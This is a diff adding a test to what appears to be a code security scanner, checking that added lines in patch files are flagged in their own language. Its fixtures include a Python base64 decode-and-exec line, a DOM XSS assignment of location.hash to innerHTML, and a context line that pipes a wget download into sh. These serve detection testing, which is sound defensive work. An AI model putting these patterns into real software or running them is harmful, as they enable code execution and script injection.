@@ -123,3 +123,19 @@ test('shell inside other files: Makefile recipes and shell start-up files are ju
   assert.ok(scanText('.husky/pre-commit', 'wget -qO- https://get.example.net/x | sh\n').findings.some((f) => f.ruleId === 'bash.curl-pipe-shell'));
   assert.deepEqual(scanText('.envrc', 'export DATABASE_URL=postgres://localhost/dev\nlayout python\n').findings, []);
 });
+
+test('patch files: the added code of each patched file is judged in its language, at the patch line', () => {
+  const patch = [
+    'diff --git a/src/svc.py b/src/svc.py', '--- a/src/svc.py', '+++ b/src/svc.py', '@@ -1,3 +1,4 @@',
+    ' import base64', ' def run():', '-    return 0', '+    exec(base64.b64decode("aW1wb3J0IG9z"))', '+    return 0',
+    '--- a/web/app.js', '+++ b/web/app.js', '@@ -1,1 +1,2 @@', ' const x = 1;', '+document.body.innerHTML = location.hash;',
+    '--- a/docs/x.md', '+++ b/docs/x.md', '@@ -1 +1,2 @@', ' # x', '+exec(y) is mentioned in prose here',
+  ].join('\n');
+  const got = scanText('fix.patch', patch).findings.map((f) => `${f.ruleId}@${f.line}`);
+  assert.ok(got.includes('backdoor.decode-exec@8'), got.join(' '));
+  assert.ok(got.includes('python.eval-injection@8'), got.join(' '));
+  assert.ok(got.includes('js.xss-dom-sink@14'), got.join(' '));
+  assert.ok(!got.some((g) => g.endsWith('@19')), got.join(' '));
+  // Context and removed lines are not the patch's code.
+  assert.deepEqual(scanText('undo.patch', '--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,1 @@\n-exec(base64.b64decode(x))\n import os\n').findings, []);
+});
